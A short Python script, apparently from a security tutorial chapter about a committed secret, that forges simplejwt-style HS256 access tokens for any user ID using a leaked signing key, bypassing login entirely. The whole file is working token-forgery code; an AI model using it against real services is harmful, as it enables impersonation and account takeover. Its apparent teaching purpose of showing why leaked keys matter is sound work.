"""The attacker's minter, for chapter 6. Not part of the Django project.

    .venv/bin/python steps/06-committed-secret/mint.py KEY USER_ID

Prints a new access token for USER_ID, signed with KEY the way simplejwt
signs its own (HS256, the same claims), with PyJWT, the library simplejwt
uses. Whoever holds the key needs no account, no password and no login.
"""

import sys
import time
import uuid

import jwt

key, user_id = sys.argv[1:3]
now = int(time.time())
claims = {
    "token_type": "access",
    "exp": now + 300,
    "iat": now,
    "jti": uuid.uuid4().hex,
    "user_id": user_id,
}
print(jwt.encode(claims, key, algorithm="HS256"))
